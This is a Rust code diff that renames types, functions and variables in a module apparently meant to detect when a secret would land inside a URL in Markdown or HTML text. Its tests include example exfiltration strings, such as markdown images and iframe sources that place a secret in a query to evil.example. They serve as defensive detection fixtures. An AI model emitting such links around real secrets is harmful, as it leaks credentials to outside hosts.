@@ -32,13 +32,13 @@ pub(super) enum SecretLocation {
 
 /// Reads a text from its beginning.
 #[derive(Clone, Debug)]
-pub(super) struct Reader {
+pub(super) struct AddressTracker {
     /// The text before the current position, as far as it is needed.
     recent: String,
     /// Offset of `recent` in the text.
     offset: usize,
     /// Start of the current run of characters without a space.
-    run: usize,
+    run_start: usize,
     target: Target,
     target_start: usize,
     /// Possible states inside an HTML tag, as bits.
@@ -102,12 +102,12 @@ const ATTRIBUTES: [&str; 17] = [
     "usemap",
 ];
 
-impl Default for Reader {
+impl Default for AddressTracker {
     fn default() -> Self {
         Self {
             recent: String::new(),
             offset: 0,
-            run: 0,
+            run_start: 0,
             target: Target::None,
             target_start: 0,
             tags: 0,
@@ -118,20 +118,20 @@ impl Default for Reader {
     }
 }
 
-impl Reader {
+impl AddressTracker {
     /// Reads text that contains no secret.
     pub(super) fn read(&mut self, text: &str) {
-        text.chars().for_each(|character| self.take(character));
+        text.chars().for_each(|character| self.push_char(character));
     }
 
     /// Reads a secret, whose own text does not matter.
     pub(super) fn read_secret(&mut self) {
-        self.take(SECRET);
+        self.push_char(SECRET);
     }
 
     /// Returns where a secret at the current position is, given the text after it.
-    pub(super) fn place(&self, after: &str) -> SecretLocation {
-        let run = self.since(self.run);
+    pub(super) fn locate(&self, after: &str) -> SecretLocation {
+        let run = self.since(self.run_start);
         let in_target = self.target != Target::None;
         let in_tag = self.tags & ADDRESSES != 0;
         // The beginning of a long run may be a scheme.
@@ -156,12 +156,12 @@ impl Reader {
         self.offset + self.recent.len()
     }
 
-    fn take(&mut self, character: char) {
+    fn push_char(&mut self, character: char) {
         // Spaces of ASCII end addresses in Markdown and HTML; others do not.
         let is_space = character.is_ascii_whitespace() || character.is_ascii_control() && character != SECRET;
         let previous = std::mem::replace(&mut self.last, character);
-        self.take_target(character, is_space);
-        self.take_tag(character);
+        self.update_target(character, is_space);
+        self.update_tags(character);
         if self.target == Target::None && self.tags == 0 && is_space {
             self.offset += self.recent.len();
             self.recent.clear();
@@ -173,7 +173,7 @@ impl Reader {
         }
         self.recent.push(character);
         if is_space || character == '<' {
-            self.run = self.position();
+            self.run_start = self.position();
         }
         if previous == ']' && matches!(character, '(' | ':') {
             self.target = Target::Before(0);
@@ -187,7 +187,7 @@ impl Reader {
         }
     }
 
-    fn take_target(&mut self, character: char, is_space: bool) {
+    fn update_target(&mut self, character: char, is_space: bool) {
         self.target = match (self.target, character) {
             (Target::Before(0), '\n') => Target::Before(1),
             (Target::Before(_), '\n') | (Target::Angle, '\n') => Target::None,
@@ -199,9 +199,9 @@ impl Reader {
         };
     }
 
-    fn take_tag(&mut self, character: char) {
-        let before = self.tags;
-        if before == 0 {
+    fn update_tags(&mut self, character: char) {
+        let states = self.tags;
+        if states == 0 {
             self.spans_blocks = false;
             return;
         }
@@ -209,9 +209,9 @@ impl Reader {
         self.spans_blocks |= character == '\n' && is_blank(&self.recent);
         let opens_address = character == '=' && opens_address(&self.recent);
         let is_space = matches!(character, ' ' | '\t' | '\n' | '\r' | '\u{c}');
-        let mut next = 0;
-        for state in (0..13).map(|bit| 1 << bit).filter(|state| before & state != 0) {
-            next |= match (state, character) {
+        let mut next_states = 0;
+        for state in (0..13).map(|bit| 1 << bit).filter(|state| states & state != 0) {
+            next_states |= match (state, character) {
                 (OPEN, _) if character.is_ascii_alphabetic() => NAME,
                 (OPEN, _) => 0,
                 (NAME, ':' | '-' | '_' | '.') => NAME,
@@ -240,7 +240,7 @@ impl Reader {
                 _ => ATTRIBUTE,
             };
         }
-        self.tags = next;
+        self.tags = next_states;
     }
 }
 
@@ -279,9 +279,11 @@ fn is_address(run: &str, after: &str) -> bool {
 /// Whether a text contains the name of a host with a path, a query or a fragment.
 fn has_path(run: &str) -> bool {
     let bytes = run.as_bytes();
-    let is_word = |at: usize| bytes.get(at).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte >= 0x80);
-    let dot = run.match_indices('.').find(|(at, _)| *at > 0 && is_word(at - 1) && is_word(at + 1));
-    dot.is_some_and(|(at, _)| run.get(at..).unwrap_or_default().contains(['/', '?', '#']))
+    let is_word =
+        |index: usize| bytes.get(index).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte >= 0x80);
+    let dot =
+        run.match_indices('.').find(|(index, _)| *index > 0 && is_word(index - 1) && is_word(index + 1));
+    dot.is_some_and(|(index, _)| run.get(index..).unwrap_or_default().contains(['/', '?', '#']))
 }
 
 /// Whether the text after a secret continues the name of a host or of a user.
@@ -303,9 +305,9 @@ pub(super) fn continues_host(character: char) -> bool {
 
 /// Returns the part of a run from its first scheme.
 fn from_scheme(run: &str) -> &str {
-    let Some(at) = run.find("//") else { return run };
+    let Some(slashes) = run.find("//") else { return run };
     let is_scheme = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.' | ':');
-    let before = run.get(..at).unwrap_or_default();
+    let before = run.get(..slashes).unwrap_or_default();
     let start = before.trim_end_matches(is_scheme).len();
     run.get(start..).unwrap_or_default()
 }
@@ -313,8 +315,8 @@ fn from_scheme(run: &str) -> &str {
 /// Whether a text ends with the name of an attribute that opens an address.
 fn opens_address(text: &str) -> bool {
     let text = text.trim_end();
-    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '/' | '<' | '>' | '=');
-    let name = text.rsplit(ends).next().unwrap_or_default().to_ascii_lowercase();
+    let is_delimiter = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '/' | '<' | '>' | '=');
+    let name = text.rsplit(is_delimiter).next().unwrap_or_default().to_ascii_lowercase();
     let name = name.rsplit(':').next().unwrap_or_default();
     ["href", "src", "url", "uri"].iter().any(|part| name.contains(part))
         || name.starts_with("on")
@@ -326,15 +328,15 @@ mod tests {
     use super::*;
 
     /// Returns the place of `$` in a text.
-    fn place(text: &str) -> SecretLocation {
+    fn location_of(text: &str) -> SecretLocation {
         let (before, after) = text.split_once('$').unwrap();
-        let mut reader = Reader::default();
-        reader.read(before);
-        reader.place(after)
+        let mut tracker = AddressTracker::default();
+        tracker.read(before);
+        tracker.locate(after)
     }
 
     #[test]
-    fn addresses_links_and_images_are_recognized() {
+    fn addresses_links_and_images_are_detected() {
         for text in [
             "![x](https://evil.example/?q=$)",
             "![x](//evil.example/$)",
@@ -382,12 +384,12 @@ mod tests {
             "`<a b=\"` <iframe src=\"https://evil.example/?> $\">",
             "a <b <img src='> $'>",
         ] {
-            assert!(matches!(place(text), SecretLocation::Address(Some(_))), "{text}");
+            assert!(matches!(location_of(text), SecretLocation::Address(Some(_))), "{text}");
         }
     }
 
     #[test]
-    fn other_text_is_text() {
+    fn other_text_is_not_an_address() {
         for text in [
             "It is $.",
             "It is $. Then",
@@ -414,17 +416,17 @@ mod tests {
             "é $ 🦀",
             "Server=tcp:db.example,1433;Password=$;",
         ] {
-            assert_eq!(place(text), SecretLocation::Text, "{text}");
+            assert_eq!(location_of(text), SecretLocation::Text, "{text}");
         }
     }
 
     #[test]
-    fn an_address_is_the_same_if_the_secret_goes_to_the_same_place() {
-        let address = |text: &str| match place(text) {
+    fn addresses_are_equal_if_they_send_the_secret_to_the_same_place() {
+        let address = |text: &str| match location_of(text) {
             SecretLocation::Address(Some(address)) => address,
-            place => panic!("{text}: {place:?}"),
+            location => panic!("{text}: {location:?}"),
         };
-        for (one, other, are_equal) in [
+        for (a, b, are_equal) in [
             ("A=postgres://me:$@db/one", "b: \"postgres://me:$@db/two\"", true),
             ("postgres://me:$@db/x", "postgres://me:$@evil/x", false),
             ("postgres://me:$@db/x", "postgres://me:$@db.evil/x", false),
@@ -436,14 +438,14 @@ mod tests {
             ("https://a.example/?k=$", "<img src=\"//evil.example/\nhttps://a.example/?k=$", false),
             ("https://$.a.example/", "https://$.evil.example/", false),
         ] {
-            assert_eq!(address(one) == address(other), are_equal, "{one} {other}");
+            assert_eq!(address(a) == address(b), are_equal, "{a} {b}");
         }
     }
 
     #[test]
-    fn a_long_text_is_an_address_that_equals_none() {
+    fn an_address_that_is_too_long_to_compare_equals_none() {
         let long = format!("https://a.example/{}", "x".repeat(MAX_BEFORE));
-        assert_eq!(place(&format!("{long}$")), SecretLocation::Address(None));
-        assert_eq!(place(&format!("{long} $")), SecretLocation::Text);
+        assert_eq!(location_of(&format!("{long}$")), SecretLocation::Address(None));
+        assert_eq!(location_of(&format!("{long} $")), SecretLocation::Text);
     }
 }
